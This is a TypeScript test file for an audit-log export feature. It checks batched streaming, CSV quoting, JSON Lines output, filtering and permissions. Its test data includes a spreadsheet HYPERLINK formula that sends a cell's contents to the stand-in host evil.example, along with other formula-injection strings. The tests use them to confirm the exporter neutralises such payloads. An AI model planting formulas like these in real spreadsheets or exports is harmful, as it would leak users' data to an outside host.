import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { prisma } from '../db/prisma';
import { parseCsv } from '../testing/parse-csv';
import { createTestDatabase } from '../testing/test-database';
import { AUDIT_CSV_COLUMNS } from './audit-csv';
import { exportAuditEvents } from './export-audit-events';
import { findAuditEvents } from './find-audit-events';
import { recordAuditEvent, type TAuditEventInput } from './record-audit-event';

const AUDITOR = { kind: 'user', id: 'u1', email: 'auditor@example.com', role: 'auditor' } as const;
let db: Awaited<ReturnType<typeof createTestDatabase>>;

// Values a spreadsheet or a naive CSV writer gets wrong: separators, quotes and line
// breaks inside a field, and text that a spreadsheet would run as a formula.
const HOSTILE_REASON = 'late, "really" late\r\nsecond line\nthird';
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tTAB', '\rCR'];

const events: TAuditEventInput[] = [
  ...Array.from({ length: 9 }, (_, i): TAuditEventInput => ({
    actor: `user:op${i % 3}@example.com`, action: i % 2 ? 'message.replay_requested' : 'message.edited', messageId: BigInt(10 + i),
    sourceQueue: 'dlq', originQueue: 'orders', reason: `reason ${i}`, target: 'queue orders',
    before: { status: 'dead' }, after: { status: 'replaying', revision: i },
  })),
  { actor: 'user:op0@example.com', action: 'message.discarded', messageId: 30n, reason: HOSTILE_REASON, after: { note: 'a,b "c"\n' } },
  ...FORMULAS.map((reason, i): TAuditEventInput => ({ actor: i === 0 ? reason : 'user:op1@example.com', action: 'message.restored', messageId: 40n, reason })),
];

async function readAll(stream: ReadableStream<Uint8Array>) {
  const chunks: string[] = [];
  const decoder = new TextDecoder();
  const reader = stream.getReader();
  for (let r = await reader.read(); !r.done; r = await reader.read()) chunks.push(decoder.decode(r.value, { stream: true }));
  return { text: chunks.join(''), chunks };
}

beforeAll(async () => {
  db = await createTestDatabase('auditexport');
  for (const event of events) await prisma().$transaction((tx) => recordAuditEvent(tx, event));
});
afterAll(async () => db?.drop());

describe('exportAuditEvents', () => {
  it('streams every event in keyset batches, reading the next batch only when the client asks', async () => {
    const findMany = vi.spyOn(prisma().auditEvent, 'findMany');
    try {
      const file = await exportAuditEvents({ actor: AUDITOR, format: 'jsonl', batchSize: 4 });
      expect(findMany).toHaveBeenCalledTimes(1); // the first batch, so a failing database is an error status
      const reader = file.stream.getReader();
      const first = await reader.read();
      expect(new TextDecoder().decode(first.value).trimEnd().split('\n')).toHaveLength(4);
      expect(findMany.mock.calls.length).toBeLessThanOrEqual(2); // this batch and at most one read ahead
      let lines = 4;
      let chunks = 1;
      for (let r = await reader.read(); !r.done; r = await reader.read()) {
        lines += new TextDecoder().decode(r.value).trimEnd().split('\n').length;
        chunks++;
      }
      expect(lines).toBe(events.length);
      expect(chunks).toBe(Math.ceil(events.length / 4)); // 16 events: 4 batches of 4
      expect(findMany.mock.calls.every(([args]) => args?.take === 4)).toBe(true);
    } finally {
      findMany.mockRestore();
    }
  });

  it('writes RFC 4180 CSV: a preamble, the header, quoted separators, quotes and line breaks, formulas neutralised', async () => {
    const now = new Date('2026-11-29T13:05:09.123Z');
    const file = await exportAuditEvents({ actor: AUDITOR, format: 'csv', batchSize: 3, now });
    expect(file).toMatchObject({ filename: 'audit-events-20261129T130509Z.csv', contentType: 'text/csv; charset=utf-8' });
    const { text, chunks } = await readAll(file.stream);
    expect(chunks.length).toBeGreaterThan(3);
    const [preamble, header, ...rows] = parseCsv(text);
    expect(preamble).toHaveLength(1);
    expect(preamble![0]).toMatch(/^# dlq-console audit events exported 2026-11-29T13:05:09.123Z; no filters; newest first\./);
    expect(preamble![0]).toContain('prefixed with an apostrophe');
    expect(header).toEqual([...AUDIT_CSV_COLUMNS]);
    expect(rows).toHaveLength(events.length);
    expect(rows.every((r) => r.length === AUDIT_CSV_COLUMNS.length)).toBe(true);

    const col = (row: string[], name: (typeof AUDIT_CSV_COLUMNS)[number]) => row[AUDIT_CSV_COLUMNS.indexOf(name)]!;
    const expected = (await findAuditEvents({ actor: AUDITOR, limit: 200 })).items;
    expect(rows.map((r) => col(r, 'id'))).toEqual(expected.map((e) => e.id)); // newest first, as the page
    const hostile = rows.find((r) => col(r, 'action') === 'message.discarded')!;
    expect(col(hostile, 'reason')).toBe(HOSTILE_REASON);
    expect(JSON.parse(col(hostile, 'after'))).toEqual({ note: 'a,b "c"\n' });
    expect(col(hostile, 'before')).toBe('');
    expect(col(hostile, 'outcome')).toBe('succeeded');
    expect(col(hostile, 'message_id')).toBe('30');
    expect(col(hostile, 'hash')).toBe(expected.find((e) => e.action === 'message.discarded')!.hash);
    const restored = rows.filter((r) => col(r, 'action') === 'message.restored').map((r) => col(r, 'reason')).reverse();
    expect(restored).toEqual(FORMULAS.map((f) => `'${f}`));
    expect(rows.some((r) => col(r, 'actor') === `'${FORMULAS[0]}`)).toBe(true);
    const edited = rows.find((r) => col(r, 'action') === 'message.edited')!;
    expect(col(edited, 'source_queue')).toBe('dlq');
    expect(JSON.parse(col(edited, 'before'))).toEqual({ status: 'dead' });
    expect(col(edited, 'prev_hash')).toMatch(/^[0-9a-f]{64}$/);
  });

  it('writes JSON Lines: one event per line, the same objects the API lists, filtered the same way', async () => {
    const filters = { actor: 'user:op1@example.com', action: 'replays' };
    const file = await exportAuditEvents({ actor: AUDITOR, format: 'jsonl', filters, batchSize: 2 });
    expect(file.contentType).toBe('application/x-ndjson; charset=utf-8');
    expect(file.filename).toMatch(/^audit-events-\d{8}T\d{6}Z\.jsonl$/);
    const { text } = await readAll(file.stream);
    expect(text.endsWith('\n')).toBe(true);
    const lines = text.trimEnd().split('\n').map((l) => JSON.parse(l) as unknown);
    expect(lines).toEqual((await findAuditEvents({ actor: AUDITOR, filters, limit: 200 })).items);
    expect(lines).toHaveLength(2); // op1 is i = 1, 4, 7; replays are the odd i: messages 11 and 17
    const csv = parseCsv((await readAll((await exportAuditEvents({ actor: AUDITOR, format: 'csv', filters })).stream)).text);
    expect(csv[0]![0]).toContain('filters actor=user%3Aop1%40example.com&action=replays;');
    expect(csv.slice(2).map((r) => r[3])).toEqual(['message.replay_requested', 'message.replay_requested']);
  });

  it('ends with a header and no rows when nothing matches, and hides out-of-scope events from a team-scoped reader', async () => {
    const empty = parseCsv((await readAll((await exportAuditEvents({ actor: AUDITOR, format: 'csv', filters: { actor: 'nobody' } })).stream)).text);
    expect(empty).toHaveLength(2);
    const scoped = { ...AUDITOR, scope: { teamIds: ['t'], origins: [], sources: ['dlq'] } };
    const { text } = await readAll((await exportAuditEvents({ actor: scoped, format: 'jsonl' })).stream);
    expect(text.trimEnd().split('\n')).toHaveLength(9);
  });

  it('needs audit:export and checks the filters before anything is sent', async () => {
    await expect(exportAuditEvents({ actor: { ...AUDITOR, role: 'viewer' }, format: 'csv' })).rejects.toMatchObject({ code: 'FORBIDDEN' });
    await expect(exportAuditEvents({ actor: AUDITOR, format: 'csv', filters: { outcome: 'maybe' } })).rejects.toMatchObject({
      code: 'INVALID_INPUT', message: expect.stringContaining('"outcome"'),
    });
  });
});
